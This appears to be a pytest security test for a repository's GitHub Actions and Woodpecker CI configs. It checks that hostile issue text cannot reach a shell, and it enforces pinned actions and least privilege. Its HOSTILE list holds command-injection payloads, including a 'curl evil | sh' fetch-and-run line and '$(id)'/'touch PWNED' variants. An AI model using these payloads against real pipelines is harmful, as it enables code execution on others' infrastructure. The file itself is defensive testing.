"""No issue text can reach a shell in any workflow or pipeline.

Static: every `run:` of every workflow and every `commands:` entry of every
Woodpecker pipeline is parsed; none may contain a `${{ }}` expression, and no
Woodpecker command may contain a `$` that Woodpecker itself would substitute.

Dynamic: every step script is run by bash (as the runner runs it) with the
event file holding a hostile issue, and with every `${{ }}` expression in the
step's env replaced by a hostile string, as if an attacker controlled even
the values that GitHub and the maintainers set. The tools the scripts call
are recorders on PATH: the test asserts they received the hostile text as
plain arguments and that nothing in it ran.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import ROOT

WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
ACTION = ROOT / "action.yml"
PINNED = re.compile(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}")
PIPELINES = sorted((ROOT / ".woodpecker").glob("*.yml"))
HOSTILE = ["'; curl evil | sh; echo '", "$(id)", "`id`", '"; touch PWNED; echo "', "${IFS}x$(touch PWNED)"]
EXPRESSION = re.compile(r"\$\{\{.*?\}\}", re.DOTALL)
TOOLS = ("responder", "statuspage", "postmortem", "mkdocs", "python", "make", "curl", "id")


def load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    # YAML 1.1 reads the key `on` as True.
    if True in data:
        data["on"] = data.pop(True)
    return data


def steps(path: Path) -> list[tuple[str, dict[str, Any], dict[str, Any]]]:
    """(job id, job, step) for every step that runs a script (the action's steps count as one job)."""
    workflow = load(path)
    if path == ACTION:
        return [("action", {}, step) for step in workflow["runs"]["steps"] if "run" in step]
    return [(job_id, job, step) for job_id, job in workflow["jobs"].items()
            for step in job.get("steps") or [] if "run" in step]


def test_there_are_workflows_and_pipelines_to_check() -> None:
    assert [p.name for p in WORKFLOWS] == ["ci.yml", "issue-automation.yml", "postmortem.yml", "statuspage.yml"]
    assert [p.name for p in PIPELINES] == ["issue-automation.yml", "postmortem.yml"]


@pytest.mark.parametrize("path", [*WORKFLOWS, ACTION], ids=lambda p: p.name)
def test_no_expression_is_pasted_into_a_run_script(path: Path) -> None:
    for job_id, _, step in steps(path):
        assert not EXPRESSION.search(step["run"]), f"{path.name}: {job_id}: {step.get('name')}: ${{{{ }}}} in run:"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_job_has_least_privilege_a_timeout_and_pinned_actions(path: Path) -> None:
    workflow = load(path)
    assert workflow["permissions"] == {}, "the workflow grants nothing by default"
    for job_id, job in workflow["jobs"].items():
        assert "permissions" in job, f"{job_id}: no permissions block"
        assert "write-all" not in str(job["permissions"])
        if "uses" in job:  # a reusable workflow call: its own jobs carry the timeouts
            continue
        assert 0 < job["timeout-minutes"] <= 30, f"{job_id}: timeout"
        for step in job["steps"]:
            if "uses" in step:
                # Pinned to a commit, or this repository's own action (./, the self-test).
                assert PINNED.fullmatch(step["uses"]) or step["uses"] == "./", step["uses"]
                if step["uses"].startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False


def test_issue_automation_triggers_concurrency_and_bot_skip() -> None:
    workflow = load(ROOT / ".github/workflows/issue-automation.yml")
    assert workflow["on"] == {"issues": {"types": ["opened", "edited", "reopened", "closed", "labeled"]},
                              "issue_comment": {"types": ["created"]}}
    assert workflow["concurrency"] == {"group": "issue-${{ github.event.issue.number }}",
                                       "cancel-in-progress": False, "queue": "max"}
    jobs = workflow["jobs"]
    assert set(jobs) == {"direct", "woodpecker"}
    for job in jobs.values():
        assert "github.event.sender.login != (vars.RESPONDER_BOT_LOGIN || 'github-actions[bot]')" in job["if"]
    assert "(vars.RESPONDER_MODE == '' || vars.RESPONDER_MODE == 'direct')" in jobs["direct"]["if"]
    assert "vars.RESPONDER_MODE == 'woodpecker'" in jobs["woodpecker"]["if"]
    assert jobs["direct"]["permissions"] == {"contents": "write", "issues": "write"}
    assert jobs["woodpecker"]["permissions"] == {"contents": "read", "issues": "write"}


def test_the_actions_own_steps_are_pinned_and_never_turn_the_wrapper_on() -> None:
    action = load(ACTION)
    assert action["runs"]["using"] == "composite"
    for step in action["runs"]["steps"]:
        if "uses" in step:
            assert PINNED.fullmatch(step["uses"]), step["uses"]
            if "setup-terraform" in step["uses"]:
                assert step["with"]["terraform_wrapper"] is False
            if "setup-opentofu" in step["uses"]:
                assert step["with"]["tofu_wrapper"] is False
        else:
            assert step["shell"] == "bash"


def test_the_only_zizmor_suppression_is_the_reviewed_one() -> None:
    ignores = [(path.name, line.strip()) for path in WORKFLOWS
               for line in path.read_text().splitlines() if "zizmor: ignore" in line]
    assert ignores == [("issue-automation.yml", "issue_comment: # zizmor: ignore[dangerous-triggers]")]


def test_zizmor_finds_a_pasted_issue_title(tmp_path: Path) -> None:
    """The auditor in `make workflows` would catch the seeds' mistake if it came back."""
    zizmor = shutil.which("zizmor", path=str(Path(os.sys.executable).parent)) or shutil.which("zizmor")
    assert zizmor, "zizmor is in the dev extras"
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    bad = (ROOT / ".github/workflows/statuspage.yml").read_text().replace(
        "      - name: Sweep open incidents\n",
        "      - run: echo '${{ github.event.issue.title }}'\n      - name: Sweep open incidents\n")
    assert "github.event.issue.title" in bad
    (tmp_path / ".github/workflows/statuspage.yml").write_text(bad)
    result = subprocess.run([zizmor, "--offline", "--min-severity", "medium", str(tmp_path / ".github")],
                            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode != 0
    assert "template-injection" in result.stdout


# ---------------------------------------------------------------- running the scripts


def recorders(bin_dir: Path, log: Path) -> None:
    """Stand-ins for the tools the scripts call: they write their argv as JSON lines and succeed."""
    bin_dir.mkdir()
    for tool in TOOLS:
        script = bin_dir / tool
        script.write_text(
            f"#!{os.sys.executable}\n"
            "import json, sys\n"
            f"with open({str(log)!r}, 'a') as f: f.write(json.dumps(sys.argv[1:]) + '\\n')\n"
        )
        script.chmod(script.stat().st_mode | stat.S_IEXEC)


def hostile_env(step_env: dict[str, Any], payload: str) -> dict[str, str]:
    return {key: EXPRESSION.sub(payload, str(value)) for key, value in step_env.items()}


def run_script(script: str, env: dict[str, str], cwd: Path, shell: tuple[str, ...]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*shell, script], cwd=cwd, env=env, capture_output=True, text=True, timeout=30,
                          check=False)


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("path", [p for p in [*WORKFLOWS, ACTION] if steps(p)], ids=lambda p: p.name)
def test_a_hostile_issue_runs_nothing_in_any_workflow_step(tmp_path: Path, path: Path, payload: str) -> None:
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.jsonl"
    recorders(bin_dir, log)
    work = tmp_path / "work"
    (work / "site").mkdir(parents=True)
    (work / "site" / "mkdocs.yml").write_text("site_name: x\n")
    (work / "site" / "build").mkdir()
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"action": "opened", "issue": {"number": 7, "title": payload, "body": payload}}))
    workflow = load(path)
    ran = 0
    for _, job, step in steps(path):
        env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(tmp_path), "GITHUB_EVENT_PATH": str(event),
               "GITHUB_REPOSITORY": "acme-homelab/infra",
               **hostile_env(workflow.get("env") or {}, payload), **hostile_env(job.get("env") or {}, payload),
               **hostile_env(step.get("env") or {}, payload)}
        env.setdefault("RUNNER_TEMP", str(tmp_path / "runner-temp"))
        # GitHub runs `run:` with bash -e {0} (plus pipefail when shell: bash is given).
        result = run_script(step["run"], env, work, ("bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"))
        if path != ACTION:  # the action's steps may refuse hostile inputs (a bad venv path); they must not run them
            assert result.returncode == 0, f"{path.name}: {step.get('name')}: {result.stderr}"
        ran += 1
    assert ran > 0
    assert not list(tmp_path.rglob("PWNED")), "an injected command ran"
    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    # `id` and `curl` were never called, so nothing in the payload was executed.
    assert all(call[:1] != ["-c"] for call in calls)
    names = {Path(c[0]).name for c in calls if c}
    assert "id" not in names
    for call in calls:
        for arg in call:
            if payload in arg:
                assert arg.count(payload) >= 1  # passed whole, as data


# ---------------------------------------------------------------- Woodpecker


def woodpecker_substitute(command: str, variables: dict[str, str]) -> str:
    """What Woodpecker does to a command before the shell sees it: ${VAR}/$VAR are replaced, $$ becomes $."""
    placeholder = "\0"
    text = command.replace("$$", placeholder)
    text = re.sub(r"\$\{(\w+)\}|\$(\w+)", lambda m: variables.get(m[1] or m[2], ""), text)
    return text.replace(placeholder, "$")


@pytest.mark.parametrize("path", PIPELINES, ids=lambda p: p.name)
def test_pipelines_leave_every_variable_to_the_shell_and_pin_their_images(path: Path) -> None:
    pipeline = yaml.safe_load(path.read_text())
    for step in pipeline["steps"]:
        assert re.search(r"@sha256:[0-9a-f]{64}$", step["image"]), step["image"]
        for command in step["commands"]:
            assert not re.search(r"(?<!\$)\$(?!\$)", command.replace("$$", "")), f"unescaped $ in {command!r}"


def test_the_issue_pipeline_runs_only_for_the_responders_manual_runs() -> None:
    pipeline = yaml.safe_load((ROOT / ".woodpecker/issue-automation.yml").read_text())
    assert pipeline["when"] == [{"event": "manual",
                                 "evaluate": 'ISSUE_NUMBER != "" && ISSUE_REPOSITORY != "" && ISSUE_EVENT != ""'}]
    commands = pipeline["steps"][0]["commands"]
    assert commands[-1] == ('responder handle --config "$${RESPONDER_CONFIG}" --issue "$${ISSUE_NUMBER}" '
                            '--repository "$${ISSUE_REPOSITORY}" --relayed-event "$${ISSUE_EVENT}" '
                            '--comment-id "$${COMMENT_ID}"')


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("path", PIPELINES, ids=lambda p: p.name)
def test_hostile_pipeline_variables_run_nothing(tmp_path: Path, path: Path, payload: str) -> None:
    bin_dir, log = tmp_path / "bin", tmp_path / "calls.jsonl"
    recorders(bin_dir, log)
    for tool in ("apt-get",):
        (bin_dir / tool).write_text("#!/bin/sh\nexit 0\n")
        (bin_dir / tool).chmod(0o755)
    pipeline = yaml.safe_load(path.read_text())
    # Every value a pipeline reads, even those Woodpecker itself sets (CI_*), as if an attacker chose them.
    variables = {"ISSUE_NUMBER": payload, "ISSUE_REPOSITORY": payload, "ISSUE_EVENT": payload, "COMMENT_ID": payload,
                 "CI_PIPELINE_EVENT": "push", "CI_PREV_COMMIT_SHA": payload, "RESPONDER_CONFIG": "responder.yml"}
    for step in pipeline["steps"]:
        for command in step["commands"]:
            script = woodpecker_substitute(command, variables)
            env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(tmp_path), **variables,
                   **{k: str(v) for k, v in (step.get("environment") or {}).items()}}
            result = run_script(script, env, tmp_path, ("sh", "-e", "-c"))
            assert result.returncode == 0, result.stderr
    assert not list(tmp_path.rglob("PWNED"))
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    handle = [call for call in calls if call[:1] == ["handle"]]
    if path.name == "issue-automation.yml":
        assert handle == [["handle", "--config", "responder.yml", "--issue", payload, "--repository", payload,
                           "--relayed-event", payload, "--comment-id", payload]]
    if path.name == "postmortem.yml":
        assert [call for call in calls if call[:1] == ["todos"]] == [
            ["todos", "--config", "responder.yml", "--commit", "--all"]]
